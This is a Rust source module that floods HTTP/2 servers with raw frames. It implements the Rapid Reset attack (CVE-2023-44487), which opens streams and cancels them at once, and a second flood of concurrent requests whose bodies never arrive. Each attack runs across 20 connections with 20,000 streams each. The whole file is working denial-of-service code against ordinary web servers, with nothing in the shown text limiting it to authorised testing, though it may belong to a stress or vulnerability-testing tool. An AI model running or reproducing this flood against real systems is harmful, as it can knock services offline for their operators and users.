//! Floods of HTTP/2 frames.

use tokio::io::AsyncWriteExt as _;

use crate::raw::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const END_STREAM_AND_HEADERS: u8 = 5;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `GET /` over `http`, from the static table of HPACK.
const GET: [u8; 3] = [0x82, 0x84, 0x86];
const CONNECTIONS: usize = 20;
const STREAMS: u32 = 20_000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// Streams that are reset right after they are opened (CVE-2023-44487).
pub(crate) async fn rapid_reset(target: Target) {
    flood(&target, |stream| {
        let mut frames = frame(HEADERS, END_STREAM_AND_HEADERS, stream, &GET);
        frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
        frames
    })
    .await;
}

/// More concurrent requests than the server allows, whose bodies never arrive.
pub(crate) async fn many_streams(target: Target) {
    flood(&target, |stream| frame(HEADERS, END_HEADERS, stream, &GET)).await;
}

/// Sends frames on several connections until the server closes them, without reading.
async fn flood(target: &Target, frames: impl Fn(u32) -> Vec<u8>) {
    let mut opened = Vec::new();
    for _ in 0..CONNECTIONS {
        let Ok(mut stream) = target.connect().await else {
            continue;
        };
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        bytes.extend((0..STREAMS).flat_map(|number| frames(2 * number + 1)));
        let sending = stream.write_all(&bytes);
        let _ = tokio::time::timeout(std::time::Duration::from_secs(1), sending).await;
        opened.push(stream);
    }
}
